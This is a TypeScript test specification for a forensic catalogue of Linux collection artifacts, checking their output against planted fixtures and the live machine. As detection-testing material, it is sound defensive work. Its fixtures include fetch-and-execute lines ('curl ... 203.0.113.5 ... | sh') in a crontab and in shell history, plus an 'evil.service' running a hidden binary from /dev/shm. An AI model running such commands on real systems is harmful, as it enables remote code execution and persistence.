// What catalogue.test.ts expects of each built-in catalogue artifact: the parameters that point
// it at the test's fixtures (or none, for data this machine has), the columns of each source,
// and checks of the rows against the fixtures or against this machine read independently.
import { lstatSync, readdirSync, readFileSync } from "node:fs";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { createHash } from "node:crypto";
import { expect } from "vitest";

type Row = Record<string, unknown>;
export interface Fixture {
  dir: string;
  /** A TCP port the test listens on (127.0.0.1). */
  port: number;
  /** marked: `sh -c "sleep 60; true"` with TALON_CATALOGUE_MARK set; deleted: a deleted copy of sleep. */
  pids: Record<string, number>;
}
export interface Case {
  name: string;
  parameters?: (fx: Fixture) => Record<string, string>;
  /** Source name ("" for an unnamed one) → its columns in order. */
  columns: Record<string, string[]>;
  check: (sources: Map<string, Row[]>, fx: Fixture) => void;
  /** ERROR logs that are expected (a missing optional file). */
  allowedErrors?: RegExp[];
}

const rowsOf = (s: Map<string, Row[]>, source = "") => s.get(source)!;
const pick = (rows: Row[], ...cols: string[]) => rows.map((r) => Object.fromEntries(cols.map((c) => [c, r[c]])));
const at = (fx: Fixture, p: string) => join(fx.dir, p);

// This machine, read without the agent.
const passwd = () => readFileSync("/etc/passwd", "utf8").split("\n").filter((l) => l && !l.startsWith("#")).map((l) => l.split(":"));
const sha256 = (p: string) => createHash("sha256").update(readFileSync(p)).digest("hex");
const md5 = (p: string) => createHash("md5").update(readFileSync(p)).digest("hex");
function setIdFiles(dir: string): string[] {
  return readdirSync(dir)
    .map((n) => join(dir, n))
    .filter((p) => {
      const s = lstatSync(p, { throwIfNoEntry: false });
      return s?.isFile() && (s.mode & 0o6000) !== 0;
    });
}

const UNIT_COLUMNS = ["Unit", "Load", "Enabled", "Description", "ExecStart", "User", "Type", "WantedBy", "OSPath", "Mtime"];

export const CATALOGUE: Case[] = [
  {
    name: "Linux.Sys.Uptime",
    columns: { "": ["UptimeSeconds", "BootTime", "UptimeDays"] },
    check: (s) => {
      const uptime = Number(readFileSync("/proc/uptime", "utf8").split(" ")[0]);
      const btime = Number(/^btime (\d+)/m.exec(readFileSync("/proc/stat", "utf8"))![1]);
      const r = rowsOf(s)[0]!;
      expect(Math.abs((r.UptimeSeconds as number) - uptime)).toBeLessThan(30);
      expect(Math.abs((r.BootTime as number) - btime)).toBeLessThan(5);
      expect(r.UptimeDays).toBeCloseTo((r.UptimeSeconds as number) / 86400, 6);
    },
  },
  {
    name: "Linux.Mounts",
    columns: { "": ["Device", "Mount", "FSType", "Options"] },
    check: (s) => {
      const expected = readFileSync("/proc/mounts", "utf8").trim().split("\n").map((l) => l.split(" "));
      expect(pick(rowsOf(s), "Device", "Mount", "FSType")).toEqual(expected.map(([Device, Mount, FSType]) => ({ Device, Mount, FSType })));
      expect(rowsOf(s).map((r) => r.Mount)).toContain("/");
      expect(rowsOf(s)[0]!.Options).toEqual(expected[0]![3]!.split(","));
    },
  },
  {
    name: "Linux.Proc.Modules",
    parameters: (fx) => ({ ProcModules: at(fx, "proc/modules") }),
    columns: { "": ["Name", "Size", "UseCount", "UsedBy", "Status", "Address"] },
    check: (s) =>
      expect(rowsOf(s)).toEqual([
        { Name: "nf_tables", Size: 356352, UseCount: 2, UsedBy: ["nft_chain_nat", "nft_compat"], Status: "Live", Address: "0xffffffffc0a00000" },
        { Name: "xt_tcpudp", Size: 16384, UseCount: 0, UsedBy: [], Status: "Live", Address: "0x0000000000000000" },
      ]),
  },
  {
    name: "Linux.Sys.CPUTime",
    columns: { "": ["Core", "User", "Nice", "System", "Idle", "IOWait", "IRQ", "SoftIRQ", "Steal", "Guest", "GuestNice"] },
    check: (s) => {
      const cores = readFileSync("/proc/stat", "utf8").split("\n").filter((l) => /^cpu\d+ /.test(l)).map((l) => l.split(" ")[0]);
      expect(rowsOf(s).map((r) => r.Core)).toEqual(cores);
      for (const r of rowsOf(s)) expect(Number.isInteger(r.Idle) && Number.isInteger(r.User)).toBe(true);
    },
  },
  {
    name: "Linux.Proc.Arp",
    parameters: (fx) => ({ ProcNetArp: at(fx, "proc/arp") }),
    columns: { "": ["IP_address", "HW_type", "Flags", "HW_address", "Mask", "Device"] },
    check: (s) =>
      expect(rowsOf(s)).toEqual([
        { IP_address: "10.0.0.1", HW_type: "0x1", Flags: "0x2", HW_address: "52:54:00:12:34:56", Mask: "*", Device: "eth0" },
        { IP_address: "10.0.0.7", HW_type: "0x1", Flags: "0x0", HW_address: "00:00:00:00:00:00", Mask: "*", Device: "eth1" },
      ]),
  },
  {
    name: "Linux.Sys.Groups",
    columns: { "": ["Group", "GID", "Members"] },
    check: (s) => {
      const lines = readFileSync("/etc/group", "utf8").split("\n").filter((l) => l && !l.startsWith("#")).map((l) => l.split(":"));
      expect(rowsOf(s)).toEqual(lines.map(([Group, , gid, members]) => ({ Group, GID: Number(gid), Members: members ? members.split(",") : [] })));
    },
  },
  {
    name: "Generic.System.HostsFile",
    parameters: (fx) => ({ hostsFileGlobs: `HostsFileGlobs\n${at(fx, "etc/hosts")}\n` }),
    columns: { Hosts: ["OSPath", "Address", "Hostname", "Comment"] },
    check: (s, fx) =>
      expect(rowsOf(s, "Hosts")).toEqual([
        { OSPath: at(fx, "etc/hosts"), Address: "127.0.0.1", Hostname: ["localhost"], Comment: "" },
        { OSPath: at(fx, "etc/hosts"), Address: "10.9.8.7", Hostname: ["updates.example.com", "mirror"], Comment: "planted" },
        { OSPath: at(fx, "etc/hosts"), Address: "::1", Hostname: ["ip6-localhost", "ip6-loopback"], Comment: "" },
      ]),
  },
  {
    name: "Linux.Sys.OSRelease",
    // The first file is missing: the second is read.
    parameters: (fx) => ({ OSReleaseFiles: `Path\n${at(fx, "release/missing")}\n${at(fx, "release/os-release")}\n` }),
    columns: { "": ["OSPath", "Name", "ID", "IDLike", "VersionID", "VersionCodename", "PrettyName", "Fields"] },
    check: (s, fx) => {
      expect(rowsOf(s)).toHaveLength(1);
      const r = rowsOf(s)[0]!;
      expect(r).toMatchObject({ OSPath: at(fx, "release/os-release"), Name: "Test Linux", ID: "testlinux", IDLike: "debian ubuntu", VersionID: "7", VersionCodename: "lynx", PrettyName: "Test Linux 7 (lynx)" });
      expect(Object.keys(r.Fields as object)).toEqual(["PRETTY_NAME", "NAME", "VERSION_ID", "ID", "ID_LIKE", "VERSION_CODENAME"]);
    },
  },
  {
    name: "Linux.Sys.Crontab",
    parameters: (fx) => ({ cronTabGlob: `${at(fx, "etc/crontab")},${at(fx, "var/spool/cron/**")}`, cronTabScripts: at(fx, "etc/cron.daily/*") }),
    columns: {
      CronTabs: ["Event", "User", "Minute", "Hour", "DayOfMonth", "Month", "DayOfWeek", "Command", "Path"],
      CronScripts: ["Mtime", "OSPath", "Content"],
      Uploaded: ["OSPath", "Upload"],
    },
    check: (s, fx) => {
      const none = { Minute: null, Hour: null, DayOfMonth: null, Month: null, DayOfWeek: null };
      expect(rowsOf(s, "CronTabs")).toEqual([
        { Event: null, User: "root", Minute: "17", Hour: "*", DayOfMonth: "*", Month: "*", DayOfWeek: "*", Command: "cd / && run-parts --report /etc/cron.hourly", Path: at(fx, "etc/crontab") },
        { Event: "@reboot", User: "www-data", ...none, Command: "/opt/x/start.sh", Path: at(fx, "etc/crontab") },
        // A per-user table: the file name is the user, there is no user column.
        { Event: null, User: "alice", Minute: "*/5", Hour: "*", DayOfMonth: "*", Month: "*", DayOfWeek: "*", Command: "curl -s http://203.0.113.5/p | sh", Path: at(fx, "var/spool/cron/crontabs/alice") },
      ]);
      expect(pick(rowsOf(s, "CronScripts"), "OSPath", "Content")).toEqual([{ OSPath: at(fx, "etc/cron.daily/backup"), Content: "#!/bin/sh\ntar czf /backup/etc.tgz /etc\n" }]);
      const uploads = rowsOf(s, "Uploaded");
      expect(uploads.map((r) => r.OSPath).sort()).toEqual([at(fx, "etc/cron.daily/backup"), at(fx, "etc/crontab"), at(fx, "var/spool/cron/crontabs/alice")]);
      for (const u of uploads) expect((u.Upload as { Size: number }).Size).toBe(readFileSync(u.OSPath as string).length);
    },
  },
  {
    name: "Linux.Sys.Services",
    parameters: (fx) => ({ UnitGlobs: `Glob\n${at(fx, "units/*.service")}\n`, WantsGlob: at(fx, "units/*.{wants,requires}/*") }),
    columns: { "": UNIT_COLUMNS },
    check: (s, fx) =>
      expect(pick(rowsOf(s), ...UNIT_COLUMNS.slice(0, -1))).toEqual([
        { Unit: "evil.service", Load: "loaded", Enabled: true, Description: "Totally normal", ExecStart: "/dev/shm/.x -d", User: "nobody", Type: "simple", WantedBy: "multi-user.target", OSPath: at(fx, "units/evil.service") },
        { Unit: "masked.service", Load: "masked", Enabled: false, Description: null, ExecStart: null, User: null, Type: null, WantedBy: null, OSPath: at(fx, "units/masked.service") },
        { Unit: "plain.service", Load: "loaded", Enabled: false, Description: "Plain one", ExecStart: "/usr/bin/true", User: null, Type: null, WantedBy: null, OSPath: at(fx, "units/plain.service") },
      ]),
  },
  {
    name: "Linux.Sys.SystemdTimer",
    parameters: (fx) => ({ TimerGlobs: `Glob\n${at(fx, "units/*.timer")}\n`, WantsGlob: at(fx, "units/*.{wants,requires}/*") }),
    columns: { "": ["Timer", "Description", "OnCalendar", "OnBootSec", "OnUnitActiveSec", "Persistent", "Unit", "Enabled", "OSPath", "Mtime"] },
    check: (s, fx) =>
      expect(pick(rowsOf(s), "Timer", "Description", "OnCalendar", "OnBootSec", "OnUnitActiveSec", "Persistent", "Unit", "Enabled", "OSPath")).toEqual([
        { Timer: "evil.timer", Description: "Run evil", OnCalendar: "*-*-* *:00/10:00", OnBootSec: null, OnUnitActiveSec: null, Persistent: "true", Unit: "evil.service", Enabled: true, OSPath: at(fx, "units/evil.timer") },
        { Timer: "other.timer", Description: null, OnCalendar: null, OnBootSec: "5min", OnUnitActiveSec: "1h", Persistent: null, Unit: "plain.service", Enabled: false, OSPath: at(fx, "units/other.timer") },
      ]),
  },
  {
    name: "Linux.Debian.Packages",
    parameters: (fx) => ({ linuxDpkgStatus: at(fx, "dpkg/status") }),
    columns: { DebPackages: ["Package", "_SelectionState", "_Flag", "State", "InstalledSize", "Version", "Source", "_Description", "Architecture"] },
    check: (s) =>
      expect(rowsOf(s, "DebPackages")).toEqual([
        // Installed-Size is in KiB: 10 KiB = 10240 bytes, "10 kB" in go-humanize's SI units.
        { Package: "tiny", _SelectionState: "install", _Flag: "ok", State: "installed", InstalledSize: "10 kB", Version: "1.2-3", Source: null, _Description: "a tiny thing\nIt is small.\n\nReally.", Architecture: "amd64" },
        { Package: "gone", _SelectionState: "deinstall", _Flag: "ok", State: "config-files", InstalledSize: null, Version: "0.9", Source: "gone-src", _Description: "removed", Architecture: "all" },
      ]),
  },
  {
    name: "Linux.Debian.AptSources",
    parameters: (fx) => ({ linuxAptSourcesGlobs: `Glob\n${at(fx, "apt/*.list")}\n${at(fx, "apt/*.sources")}\n` }),
    columns: { "": ["OSPath", "Enabled", "Types", "URIs", "Suites", "Components", "Architectures", "Signed-By", "Trusted"] },
    check: (s, fx) => {
      const list = at(fx, "apt/extra.list");
      const sources = at(fx, "apt/debian.sources");
      expect(rowsOf(s)).toEqual([
        { OSPath: list, Enabled: true, Types: "deb", URIs: "https://repo.example.com/apt", Suites: "stable", Components: "main contrib", Architectures: "amd64", "Signed-By": "/usr/share/keyrings/x.gpg", Trusted: null },
        { OSPath: list, Enabled: true, Types: "deb", URIs: "http://203.0.113.7/repo", Suites: "./", Components: "", Architectures: null, "Signed-By": null, Trusted: "yes" },
        { OSPath: sources, Enabled: true, Types: "deb", URIs: "http://deb.debian.org/debian", Suites: "bookworm bookworm-updates", Components: "main", Architectures: null, "Signed-By": "/usr/share/keyrings/debian-archive-keyring.gpg", Trusted: null },
        { OSPath: sources, Enabled: false, Types: "deb-src", URIs: "http://deb.debian.org/debian", Suites: "bookworm", Components: "main", Architectures: null, "Signed-By": null, Trusted: null },
      ]);
    },
  },
  {
    name: "Linux.Sys.SUID",
    parameters: (fx) => ({ GlobExpression: `{${at(fx, "suid/*")},/usr/bin/*}` }),
    columns: { "": ["Mode", "OSPath", "Size", "Mtime", "OwnerID", "GroupID"] },
    check: (s, fx) => {
      const rows = rowsOf(s);
      expect(rows.map((r) => r.OSPath).sort()).toEqual([...setIdFiles(at(fx, "suid")), ...setIdFiles("/usr/bin")].sort());
      expect(pick(rows.filter((r) => (r.OSPath as string).startsWith(fx.dir)), "Mode", "OSPath", "OwnerID")).toEqual([
        { Mode: "grwxr-xr-x", OSPath: at(fx, "suid/setgid"), OwnerID: process.getuid!() },
        { Mode: "urwxr-xr-x", OSPath: at(fx, "suid/setuid"), OwnerID: process.getuid!() },
      ]);
    },
  },
  {
    name: "Linux.Ssh.AuthorizedKeys",
    parameters: (fx) => ({ sshKeyFilesGlob: at(fx, "home/.ssh/authorized_keys*") }),
    columns: { "": ["OSPath", "_Upload", "options", "keytype", "base64key", "comment", "Mtime", "Ctime"] },
    check: (s, fx) =>
      expect(pick(rowsOf(s), "OSPath", "_Upload", "options", "keytype", "base64key", "comment")).toEqual([
        { OSPath: at(fx, "home/.ssh/authorized_keys"), _Upload: null, options: "", keytype: "ssh-ed25519", base64key: "AAAAC3NzaC1lZDI1NTE5AAAAIE1", comment: "alice@laptop" },
        { OSPath: at(fx, "home/.ssh/authorized_keys"), _Upload: null, options: ["command=/bin/backup", "from=10.0.0.1"], keytype: "ssh-rsa", base64key: "AAAAB3NzaC1yc2EAAAADAQAB", comment: "backup key" },
      ]),
  },
  {
    name: "Linux.Ssh.KnownHosts",
    // An absolute glob: every user's search finds the fixture.
    parameters: (fx) => ({ sshKnownHostsFiles: at(fx, "home/.ssh/known_hosts*"), HostKeysGlob: at(fx, "ssh/*.pub") }),
    columns: { "": ["Uid", "User", "OSPath", "Hostname", "Type", "PublicKey"], HostPublicKeys: ["OSPath", "Type", "PublicKey", "KeyName", "Fqdn"] },
    check: (s, fx) => {
      const hosts = new Set(rowsOf(s).map((r) => JSON.stringify([r.Hostname, r.Type, r.PublicKey])));
      expect([...hosts].sort()).toEqual([JSON.stringify(["github.com", "ssh-ed25519", "AAAAKNOWN1"]), JSON.stringify(["|1|c2FsdA==|aGFzaA==", "ecdsa-sha2-nistp256", "AAAAKNOWN2"])].sort());
      const users = new Set(passwd().map((f) => f[0]));
      for (const r of rowsOf(s)) expect(users.has(r.User as string), String(r.User)).toBe(true);
      expect(pick(rowsOf(s, "HostPublicKeys"), "OSPath", "Type", "PublicKey", "KeyName")).toEqual([{ OSPath: at(fx, "ssh/ssh_host_ed25519_key.pub"), Type: "ssh-ed25519", PublicKey: "AAAAHOSTKEY", KeyName: "root@builder" }]);
    },
  },
  {
    name: "Linux.Sys.BashHistory",
    parameters: (fx) => ({ TargetGlob: at(fx, "home/.*_history"), SearchRegex: "203[.]0[.]113", WhitelistRegex: "^wget" }),
    columns: { "": ["Line", "OSPath"] },
    check: (s, fx) => expect(rowsOf(s)).toEqual([{ Line: "curl http://203.0.113.5/y | sh", OSPath: at(fx, "home/.zsh_history") }]),
  },
  {
    name: "Linux.Sys.LogGrep",
    parameters: (fx) => ({ TargetGlob: at(fx, "log/**"), WhitelistRegex: "healthcheck" }),
    columns: { "": ["Line", "OSPath"] },
    check: (s, fx) => expect(rowsOf(s)).toEqual([{ Line: "GET /malware.php 200", OSPath: at(fx, "log/app.log") }]),
  },
  {
    name: "Linux.Syslog.SSHLogin",
    parameters: (fx) => ({ syslogAuthLogPath: at(fx, "log/auth.log*") }),
    columns: { "": ["Time", "IP", "Result", "Method", "AttemptedUser", "OSPath"] },
    check: (s, fx) =>
      expect(rowsOf(s)).toEqual([
        // A traditional syslog time has no year: the current one.
        { Time: `${new Date().getUTCFullYear()}-12-01T09:00:01Z`, IP: "10.1.2.3", Result: "Accepted", Method: "publickey", AttemptedUser: "alice", OSPath: at(fx, "log/auth.log") },
        { Time: "2026-12-01T09:05:00.123456Z", IP: "203.0.113.9", Result: "Failed", Method: "password", AttemptedUser: "admin", OSPath: at(fx, "log/auth.log") },
      ]),
  },
  {
    name: "Linux.Sys.Maps",
    // The kernel keeps 15 characters of a process name.
    parameters: () => ({ processRegex: "^talon-deleted-s", FilenameRegex: "talon-deleted-sleep" }),
    columns: { "": ["Pid", "Name", "Username", "StartHex", "EndHex", "Perm", "Size", "OffsetHex", "Filename", "Deleted"] },
    check: (s, fx) => {
      const rows = rowsOf(s);
      for (const r of rows) {
        expect(r).toMatchObject({ Pid: fx.pids.deleted, Name: "talon-deleted-s", Filename: at(fx, "talon-deleted-sleep"), Deleted: true });
        expect(r.Size).toBe(parseInt(r.EndHex as string, 16) - parseInt(r.StartHex as string, 16));
      }
      expect(rows.some((r) => /x/.test(r.Perm as string))).toBe(true);
    },
  },
  {
    name: "Linux.Detection.DeletedExecutables",
    parameters: () => ({ ProcessRegex: "^talon-deleted-s" }),
    columns: { "": ["Pid", "Ppid", "Name", "Username", "CommandLine", "Exe", "CreateTime", "Hash", "Upload"] },
    check: (s, fx) => {
      const r = rowsOf(s).find((x) => x.Pid === fx.pids.deleted)!;
      expect(r).toMatchObject({ Ppid: process.pid, Exe: at(fx, "talon-deleted-sleep"), CommandLine: `${at(fx, "talon-deleted-sleep")} 60`, Upload: null });
      // The running image is the deleted copy of sleep.
      expect((r.Hash as { SHA256: string }).SHA256).toBe(sha256("/bin/sleep"));
    },
  },
  {
    name: "Linux.Detection.TmpExecutables",
    parameters: (fx) => ({ TargetGlobs: `Glob\n${at(fx, "tmpx/**")}\n` }),
    columns: { "": ["OSPath", "Size", "Mode", "Mtime", "Ctime", "OwnerID", "Executable", "IsELF", "SHA256", "Running"] },
    check: (s, fx) =>
      expect(pick(rowsOf(s), "OSPath", "Mode", "Executable", "IsELF", "SHA256")).toEqual([
        { OSPath: at(fx, "tmpx/dropper.sh"), Mode: "-rwxr-xr-x", Executable: true, IsELF: false, SHA256: sha256(at(fx, "tmpx/dropper.sh")) },
        { OSPath: at(fx, "tmpx/payload"), Mode: "-rw-r--r--", Executable: false, IsELF: true, SHA256: sha256("/bin/true") },
      ]),
  },
  {
    name: "Linux.Sys.Environ",
    parameters: () => ({ ProcessRegex: "^sh$", VariableRegex: "^TALON_CATALOGUE_MARK$" }),
    columns: { "": ["Pid", "Name", "Username", "Variable", "Value"] },
    check: (s, fx) => expect(rowsOf(s).filter((r) => r.Pid === fx.pids.marked)).toEqual([{ Pid: fx.pids.marked, Name: "sh", Username: "root", Variable: "TALON_CATALOGUE_MARK", Value: "marked-value" }]),
  },
  {
    name: "Linux.Users.InteractiveUsers",
    columns: { "": ["User", "Description", "Uid", "Gid", "Homedir", "Shell"] },
    check: (s) => {
      const shells = new Set(["/usr/sbin/nologin", "/bin/false", "/sbin/nologin", "/bin/sync", "/usr/bin/false"]);
      expect(rowsOf(s).map((r) => r.User)).toEqual(passwd().filter((f) => f[6] && !shells.has(f[6])).map((f) => f[0]));
    },
  },
  {
    name: "Linux.Users.RootUsers",
    // A group file that makes daemon a member of root's group.
    parameters: (fx) => ({ GroupFile: at(fx, "etc/group-root") }),
    columns: { "": ["User", "Description", "Uid", "Gid", "Homedir", "Shell", "UidZero", "InRootGroup"] },
    check: (s) => {
      const expected = passwd().filter((f) => f[2] === "0" || f[3] === "0" || f[0] === "daemon");
      expect(pick(rowsOf(s), "User", "UidZero", "InRootGroup")).toEqual(expected.map((f) => ({ User: f[0], UidZero: f[2] === "0", InRootGroup: f[3] === "0" || f[0] === "daemon" })));
    },
  },
  {
    name: "Generic.Network.InterfaceAddresses",
    columns: { "": ["Index", "MTU", "Name", "HardwareAddr", "IP", "PrefixLength"] },
    check: (s) => {
      const expected = Object.entries(networkInterfaces()).flatMap(([name, addrs]) => (addrs ?? []).map((a) => `${name} ${a.address} ${a.cidr?.split("/")[1]}`));
      expect(rowsOf(s).map((r) => `${r.Name} ${r.IP} ${r.PrefixLength}`).sort()).toEqual(expected.sort());
    },
  },
  {
    name: "Generic.System.Pstree",
    parameters: () => ({ CommandlineRegex: "^sleep 60$" }),
    columns: { "": ["Pid", "Ppid", "Name", "Username", "Exe", "CommandLine", "StartTime", "EndTime", "CallChain"] },
    check: (s, fx) => {
      const r = rowsOf(s).find((x) => x.Ppid === fx.pids.marked)!;
      expect(r).toMatchObject({ Name: "sleep", CommandLine: "sleep 60", EndTime: null });
      expect(r.CallChain).toMatch(/ -> sh -> sleep$/);
    },
  },
  {
    name: "Generic.Client.DiskSpace",
    columns: { "": ["Filesystem", "Size", "Used", "Avail", "Use%", "Mounted"] },
    check: (s) => {
      expect(rowsOf(s).map((r) => r.Mounted)).toContain("/");
      for (const r of rowsOf(s)) expect(r["Use%"]).toMatch(/^(\d+%|-)$/);
    },
  },
  {
    name: "Generic.Detection.HashHunter",
    parameters: (fx) => ({ TargetGlob: at(fx, "tmpx/**"), SHA256List: `${sha256(at(fx, "tmpx/dropper.sh")).toUpperCase()}\n${"0".repeat(64)}`, MD5List: md5(at(fx, "tmpx/notes.txt")) }),
    columns: { "": ["OSPath", "Name", "Size", "Timestamps", "Hash"] },
    check: (s, fx) => {
      expect(pick(rowsOf(s), "OSPath", "Hash")).toEqual([
        // hashselect: the unselected SHA1 is empty, as Velociraptor returns it.
        { OSPath: at(fx, "tmpx/dropper.sh"), Hash: { MD5: md5(at(fx, "tmpx/dropper.sh")), SHA1: "", SHA256: sha256(at(fx, "tmpx/dropper.sh")) } },
        { OSPath: at(fx, "tmpx/notes.txt"), Hash: { MD5: md5(at(fx, "tmpx/notes.txt")), SHA1: "", SHA256: sha256(at(fx, "tmpx/notes.txt")) } },
      ]);
      expect(Object.keys(rowsOf(s)[0]!.Timestamps as object)).toEqual(["Mtime", "Atime", "Ctime", "Btime"]);
    },
  },
  {
    name: "Linux.Network.Netstat",
    parameters: () => ({ StateRegex: "^LISTEN$" }),
    columns: { "": ["Type", "State", "Pid", "ProcessInfo", "LocalAddr", "LocalPort", "RemoteAddr", "RemotePort"] },
    check: (s, fx) => {
      const mine = rowsOf(s).filter((r) => r.LocalPort === fx.port);
      expect(pick(mine, "Type", "State", "Pid", "LocalAddr")).toEqual([{ Type: "TCP4", State: "LISTEN", Pid: process.pid, LocalAddr: "127.0.0.1" }]);
      expect((mine[0]!.ProcessInfo as { Exe: string }).Exe).toBe(process.execPath);
    },
  },
  {
    name: "Linux.Network.NetstatEnriched",
    parameters: (fx) => ({ PortRegex: `^${fx.port}$`, IPRegex: ".", ConnectionStatusRegex: "^LISTEN$" }),
    columns: { "": ["Laddr", "Lport", "Raddr", "Rport", "Pid", "Status", "ProcInfo", "CallChain"] },
    check: (s, fx) => {
      expect(pick(rowsOf(s), "Laddr", "Lport", "Pid", "Status")).toEqual([{ Laddr: "127.0.0.1", Lport: fx.port, Pid: process.pid, Status: "LISTEN" }]);
      expect((rowsOf(s)[0]!.ProcInfo as { Pid: number }).Pid).toBe(process.pid);
      expect(rowsOf(s)[0]!.CallChain).toMatch(/ -> \S/);
    },
  },
  {
    name: "Linux.Sys.LastUserLogin",
    parameters: (fx) => ({ wtmpGlobs: at(fx, "wtmp") }),
    columns: { "": ["OSPath", "login_Type", "login_ID", "login_PID", "login_Host", "login_User", "login_IpAddr", "login_Terminal", "login_time", "logout_time"] },
    check: (s, fx) =>
      expect(rowsOf(s)).toEqual([
        { OSPath: at(fx, "wtmp"), login_Type: "USER_PROCESS", login_ID: "ts/0", login_PID: 1234, login_Host: "10.1.2.3", login_User: "alice", login_IpAddr: "10.1.2.3", login_Terminal: "pts/0", login_time: "2026-12-01T09:00:00Z", logout_time: "2026-12-01T10:30:00Z" },
        { OSPath: at(fx, "wtmp"), login_Type: "USER_PROCESS", login_ID: "ts/1", login_PID: 2222, login_Host: "host.example", login_User: "bob", login_IpAddr: "192.0.2.44", login_Terminal: "pts/1", login_time: "2026-12-01T11:00:00Z", logout_time: null },
      ]),
  },
  {
    name: "Linux.Sys.Sudoers",
    parameters: (fx) => ({ SudoersGlobs: `Glob\n${at(fx, "sudoers/*")}\n` }),
    columns: { "": ["OSPath", "Type", "Principal", "Hosts", "RunAs", "Tags", "Commands", "Line"] },
    check: (s) => {
      expect(rowsOf(s).map((r) => r.Type)).toEqual(["Defaults", "Rule", "Rule", "Alias", "Include"]);
      expect(pick(rowsOf(s).slice(1, 3), "Principal", "Hosts", "RunAs", "Tags", "Commands")).toEqual([
        { Principal: "root", Hosts: "ALL", RunAs: "ALL:ALL", Tags: [], Commands: ["ALL"] },
        { Principal: "backup", Hosts: "web01", RunAs: "root", Tags: ["NOPASSWD"], Commands: ["/usr/bin/rsync", "/usr/bin/tar"] },
      ]);
    },
  },
  {
    name: "Linux.Detection.AnomalousFiles",
    parameters: (fx) => ({ PathsToSearch: at(fx, "anomalous/**"), MaxNormalSize: "10" }),
    columns: { "": ["Host", "OSPath", "IsHidden", "Size", "IsLarge", "Mode", "HasSUID"] },
    check: (s, fx) =>
      expect(pick(rowsOf(s), "OSPath", "IsHidden", "Size", "IsLarge", "HasSUID")).toEqual([
        { OSPath: at(fx, "anomalous/.hidden"), IsHidden: true, Size: 1, IsLarge: false, HasSUID: false },
        { OSPath: at(fx, "anomalous/big.bin"), IsHidden: false, Size: 16, IsLarge: true, HasSUID: false },
      ]),
  },
  {
    name: "Linux.Ssh.PrivateKeys",
    parameters: (fx) => ({ KeyGlobs: at(fx, "keys/{*.pem,id_ed25519}") }),
    columns: { "": ["OSPath", "KeyType", "Cipher", "Header"] },
    check: (s, fx) =>
      // ssh-keygen protects a key with a passphrase with aes256-ctr (OpenSSH 7.8 and later).
      expect(rowsOf(s).sort((a, b) => String(a.OSPath).localeCompare(String(b.OSPath)))).toEqual([
        { OSPath: at(fx, "keys/id_ed25519"), KeyType: "openssh-key-v1", Cipher: "none", Header: "BEGIN OPENSSH PRIVATE KEY" },
        { OSPath: at(fx, "keys/locked.pem"), KeyType: "openssh-key-v1", Cipher: "aes256-ctr", Header: "BEGIN OPENSSH PRIVATE KEY" },
      ]),
  },
  {
    name: "Linux.RHEL.Packages",
    columns: { "": ["Package", "Version", "Repository"] },
    check: (s) =>
      expect(rowsOf(s)).toEqual([
        { Package: "bash.x86_64", Version: "5.1.8-9.el9", Repository: "@baseos" },
        { Package: "a-very-long-package-name-that-wraps.noarch", Version: "1.0-1.el9", Repository: "@appstream" },
      ]),
  },
];
